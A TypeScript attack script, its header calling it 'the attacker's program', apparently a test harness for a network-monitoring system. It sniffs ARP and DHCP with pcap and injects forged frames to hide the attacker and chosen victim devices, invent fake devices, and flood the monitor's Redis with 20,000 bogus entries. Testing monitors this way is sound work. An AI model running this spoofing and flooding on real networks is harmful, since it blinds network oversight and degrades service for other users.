// The attacker's program, in a namespace of its own: overhears who joins, and sends forgeries until standard input ends.
// Arguments: seconds of forging, seconds of making devices up, the router's MAC and IP address, then devices to have reported or hidden.
import { createRequire } from 'node:module';
import { setTimeout as sleep } from 'node:timers/promises';
import type { PcapSession } from 'pcap';
import {
  type Device,
  madeUpDevice,
  madeUpDeviceOfTwoProtocols,
  type Network,
  type OverheardRequest,
  SELF_HIDING,
  speaks,
  VICTIM_HIDING,
} from './forgeries.js';

const [forgingS = '', madeUpS = '', routerMac = '', routerIp = '', ...targets] = process.argv.slice(2);
const network: Network = { router: { mac: routerMac, ip: routerIp }, prefix: routerIp.replace(/\.\d+$/, '') };

/** In a second. */
const FORGERIES = 60;
const MADE_UP = 4;
/** At top speed in one go, to fill Redis. */
const FLOOD = 20_000;

const { createSession } = createRequire(import.meta.url)('pcap') as typeof import('pcap');
const session: PcapSession = createSession('eth0', { filter: 'arp or udp dst port 67', buffer_timeout: 0 });

let request: OverheardRequest = { chaddr: '02:00:00:00:00:99', xid: 1 };
const addresses = new Map<string, string>();
const mac = (bytes: Buffer, at: number) => bytes.toString('hex', at, at + 6).replace(/(..)(?=.)/g, '$1:');

session.on('packet', ({ buf }: { buf: Buffer }) => {
  if (buf.readUInt16BE(12) === 0x0806) {
    const ip = [...buf.subarray(28, 32)].join('.');
    if (ip !== '0.0.0.0') addresses.set(mac(buf, 22), ip);
    return;
  }
  const dhcp = 14 + (buf.readUInt8(14) & 15) * 4 + 8;
  request = { chaddr: mac(buf, dhcp + 28), xid: buf.readUInt32BE(dhcp + 4) };
});

function send(frames: readonly Uint8Array[]): void {
  for (const frame of frames) session.inject(Buffer.from(frame));
}

const selves = SELF_HIDING.map((way, i) => ({
  way,
  self: { mac: way.mac ?? `da:a1:19:00:66:0${i}`, ip: `${network.prefix}.${201 + i}` },
}));

async function forge(): Promise<void> {
  const endMs = performance.now() + Number(forgingS) * 1_000;
  for (let turn = 0; performance.now() < endMs; turn++) {
    for (const { way, self } of selves) {
      send(way.frames(self, network, request));
      if (turn % 4 === 3) send([speaks(self, network)]);
    }
    for (const target of targets) {
      const device: Device = { mac: target, ip: addresses.get(target) ?? `${network.prefix}.150` };
      for (const { frames } of VICTIM_HIDING) {
        send(frames(device, network, request));
        await sleep(1_000 / FORGERIES);
      }
    }
  }
}

async function makeDevicesUp(): Promise<void> {
  const endMs = performance.now() + Number(madeUpS) * 1_000;
  for (let turn = 0; performance.now() < endMs; turn++) {
    send(turn % 2 === 0 ? madeUpDevice(network) : madeUpDeviceOfTwoProtocols(network));
    await sleep(1_000 / MADE_UP);
  }
}

process.stdout.write('forging\n');
await forge();
process.stdout.write('making devices up\n');
await makeDevicesUp();
process.stdout.write('flooding\n');
for (let i = 0; i < FLOOD; i++) send(madeUpDevice(network));
process.stdout.write('done\n');
process.exit(0);
